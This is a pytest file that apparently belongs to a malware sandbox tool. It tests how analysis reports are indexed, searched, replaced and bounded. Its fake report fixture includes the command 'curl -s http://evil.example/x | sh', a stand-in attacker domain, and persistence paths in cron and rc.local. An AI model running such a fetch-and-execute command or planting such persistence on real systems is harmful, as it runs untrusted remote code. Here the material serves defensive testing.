from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest

from malkoha.catalogue import LENGTH, PER_KIND, Catalogue
from malkoha.model.task import Options, Sample, Status, Task
from malkoha.store import Home
from malkoha.tasks import Tasks

SHA256 = "ab" * 32
REPORT: dict[str, Any] = {
    "info": {"ended": 1_780_000_000.5},
    "target": {"category": "file", "file": {"name": "Dropper.sh", "sha256": SHA256, "md5": "cd" * 16, "tlsh": "T1AA"}},
    "behavior": {
        "summary": {
            "file_written": ["/etc/cron.d/.Hidden", "/tmp/50%_off"],
            "file_moved": [["/tmp/from", "/tmp/to"]],
            "command_line": ["curl -s http://evil.example/x | sh"],
            "persistence": [{"path": "/etc/rc.local", "kind": "rc", "content": "x"}],
            "resolves_host": ["evil.example"],
        }
    },
    "network": {
        "hosts": ["198.51.100.7"],
        "domains": [{"domain": "evil.example", "ip": "198.51.100.7"}],
        "http": [{"uri": "http://evil.example/x"}],
    },
    "dropped": [{"name": "x", "filepath": "/tmp/x", "sha256": "ef" * 32}],
    "signatures": [{"name": "writes_cron", "ttp": {"T1053.003": "Cron"}}],
    "malkoha": {
        "verdict": {"level": "suspicious", "score": 5.5},
        "timings": {"run_s": 3.5, "total_s": 5.0},
        "trace": {"events": 650},
        "processes_total": 3,
    },
}


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.cluster)])
def tasks(request: pytest.FixtureRequest) -> Iterator[Tasks]:
    home: Home = request.getfixturevalue("home" if request.param == "sqlite" else "shared_home")
    with Tasks(home) as opened:
        if home.server:
            opened.show(["default/x86-64/none"])
        yield opened


@pytest.fixture
def catalogue(tasks: Tasks) -> Catalogue:
    return Catalogue(tasks)


def reported(tasks: Tasks, number: int, **changes: Any) -> None:
    """Make a task whose report is there."""
    sample = Sample(name=b"a", size=1, sha256=SHA256, type="data")
    status = Status.REPORTED
    tasks.add(Task(id=number, target="/a", sample=sample, options=Options(), added_at=datetime.now(UTC), status=status))
    store = tasks.home.analysis(number).create()
    store.report_json.write_bytes(msgspec.json.encode(REPORT | changes))


def found(catalogue: Catalogue, text: str, kind: Any = None) -> list[tuple[int, list[tuple[str, str]]]]:
    return [(hit.task_id, hit.found) for hit in catalogue.search(text, kind)[0]]


def test_a_report_is_kept_as_its_outcome(tasks: Tasks, catalogue: Catalogue) -> None:
    reported(tasks, 1)
    outcome = catalogue.record(1, tasks.home.analysis(1))
    assert outcome == catalogue.outcomes([1, 2])[1]
    assert outcome is not None
    assert (outcome.level, outcome.score, outcome.run_s, outcome.events) == ("suspicious", 5.5, 3.5, 650)
    assert outcome.ended_at == "2026-05-28T20:26:40+00:00"
    assert catalogue.digests("tlsh") == [(1, "T1AA")]
    assert catalogue.digests("ssdeep") == []


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        (SHA256.upper(), "hash", SHA256),
        ("ef" * 10, "hash", "ef" * 32),
        ("dropper", "name", "Dropper.sh"),
        ("198.51.100.", "ip", "198.51.100.7"),
        ("EVIL.example", "domain", "evil.example"),
        ("/etc/cron.d/", "path", "/etc/cron.d/.Hidden"),
        ("50%_", "path", "/tmp/50%_off"),
        ("/tmp/to", "path", "/tmp/to"),
        ("/etc/rc.local", "path", "/etc/rc.local"),
        ("| sh", "command", "curl -s http://evil.example/x | sh"),
        ("http://evil", "url", "http://evil.example/x"),
        ("writes_cron", "signature", "writes_cron"),
        ("t1053", "technique", "T1053.003"),
    ],
)
def test_an_analysis_is_found_by_what_it_has(
    tasks: Tasks, catalogue: Catalogue, text: str, kind: str, value: str
) -> None:
    reported(tasks, 1)
    catalogue.record(1, tasks.home.analysis(1))
    assert (kind, value) in found(catalogue, text)[0][1]
    assert (kind, value) in found(catalogue, text, kind)[0][1]
    assert found(catalogue, text, "technique" if kind != "technique" else "ip") == []


def test_signs_of_a_pattern_mean_themselves(tasks: Tasks, catalogue: Catalogue) -> None:
    reported(tasks, 1)
    catalogue.record(1, tasks.home.analysis(1))
    assert found(catalogue, "%") == [(1, [("path", "/tmp/50%_off")])]
    assert found(catalogue, "evil_example") == []
    assert found(catalogue, "  ") == []


def test_the_newest_comes_first_and_what_was_cut_is_told(tasks: Tasks, catalogue: Catalogue) -> None:
    for number in (1, 2, 3):
        reported(tasks, number)
    assert catalogue.catch_up(2) == 1
    assert catalogue.catch_up(2) == 0
    assert catalogue.catch_up(2) == 0
    hits, cut = catalogue.search("evil.example", "domain", limit=2)
    assert ([hit.task_id for hit in hits], cut) == ([3, 2], True)


def test_a_new_report_takes_the_place_of_the_old_one(tasks: Tasks, catalogue: Catalogue) -> None:
    reported(tasks, 1)
    catalogue.record(1, tasks.home.analysis(1))
    tasks.home.analysis(1).report_json.write_bytes(msgspec.json.encode({"malkoha": {"verdict": {"level": "clean"}}}))
    catalogue.record(1, tasks.home.analysis(1))
    assert found(catalogue, "evil") == []
    assert catalogue.outcomes([1])[1].level == "clean"


def test_what_was_kept_goes_with_its_task(tasks: Tasks, catalogue: Catalogue) -> None:
    reported(tasks, 1)
    catalogue.record(1, tasks.home.analysis(1))
    tasks.delete(1)
    assert found(catalogue, "evil") == []
    assert catalogue.outcomes([1]) == {}
    assert catalogue.record(1, tasks.home.analysis(1)) is None


def test_no_report_and_a_damaged_one_are_passed_over(tasks: Tasks, catalogue: Catalogue) -> None:
    reported(tasks, 1)
    tasks.home.analysis(1).report_json.write_text('{"info": 5}')
    assert catalogue.record(1, tasks.home.analysis(1)) is None
    tasks.home.analysis(1).report_json.unlink()
    assert catalogue.record(1, tasks.home.analysis(1)) is None


def test_hostile_texts_are_bounded_and_plain(tasks: Tasks, catalogue: Catalogue) -> None:
    long = "\0\n\u202e" + "x" * 10_000
    reported(tasks, 1, behavior={"summary": {"command_line": [long], "file_read": {"not": "a list"}}})
    catalogue.record(1, tasks.home.analysis(1))
    (kept,) = catalogue.terms(1)["command"]
    assert (len(kept), kept[:12]) == (LENGTH, "\\x00\\n\\u202e")
    assert [task_id for task_id, _ in found(catalogue, kept)] == [1]


def test_too_many_texts_are_counted(tasks: Tasks, catalogue: Catalogue) -> None:
    reported(tasks, 1, behavior={"summary": {"command_line": [f"c{number}" for number in range(PER_KIND + 5)]}})
    outcome = catalogue.record(1, tasks.home.analysis(1))
    assert outcome is not None
    assert outcome.omitted == 5
    assert len(catalogue.terms(1)["command"]) == PER_KIND


def test_what_is_frequent(tasks: Tasks, catalogue: Catalogue) -> None:
    reported(tasks, 1)
    reported(tasks, 2, signatures=[{"name": "writes_cron"}, {"name": "other"}], info={"ended": 1_790_000_000})
    catalogue.catch_up()
    assert catalogue.top("signature") == [("writes_cron", 2), ("other", 1)]
    assert catalogue.top("signature", since="2026-09-01") == [("other", 1), ("writes_cron", 1)]
    assert [outcome.task_id for outcome in catalogue.since("2026-01-01")] == [1, 2]
    assert [outcome.task_id for outcome in catalogue.since("2026-09-01")] == [2]
